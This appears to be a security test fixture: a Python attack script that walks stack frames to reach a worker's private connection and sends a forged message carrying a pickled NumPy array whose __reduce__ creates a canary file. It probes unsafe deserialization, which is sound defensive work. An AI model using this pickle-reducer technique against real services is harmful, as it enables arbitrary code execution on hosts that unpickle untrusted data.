"""Sends arrays whose .npy bytes are pickled objects, with a reducer that would create a file in the canary folder.

Attack: forgery
Deserves: 80
Keeps: 80
"""

# %% extra before: sampling
import sys

def _worker():
    frame = sys._getframe()
    while frame is not None:
        if "serve_forks" in frame.f_globals and "time_limit" in frame.f_globals:
            return frame.f_globals
        frame = frame.f_back
    raise RuntimeError("the worker was not found")

def _child():
    frame = sys._getframe()
    while frame is not None:
        me = frame.f_locals.get("self")
        if type(me).__name__ == "Child":
            return me
        frame = frame.f_back
    raise RuntimeError("the child was not found")

import io, json, pickle, struct
class _Reduced:
    def __reduce__(self):
        return open, ("@CANARY_DIR@/unpickled.txt", "w")
_buffer = io.BytesIO()
np.lib.format.write_array(_buffer, np.array([_Reduced()], dtype=object), allow_pickle=True)
_body = _buffer.getvalue()
_header = json.dumps({"message": {"kind": "loaded", "errors": {"$array": 0}}, "sizes": [len(_body)]}).encode()
_child()._connection.sendall(struct.pack(">4sIQ", b"VAEK", len(_header), len(_body)) + _header + _body)
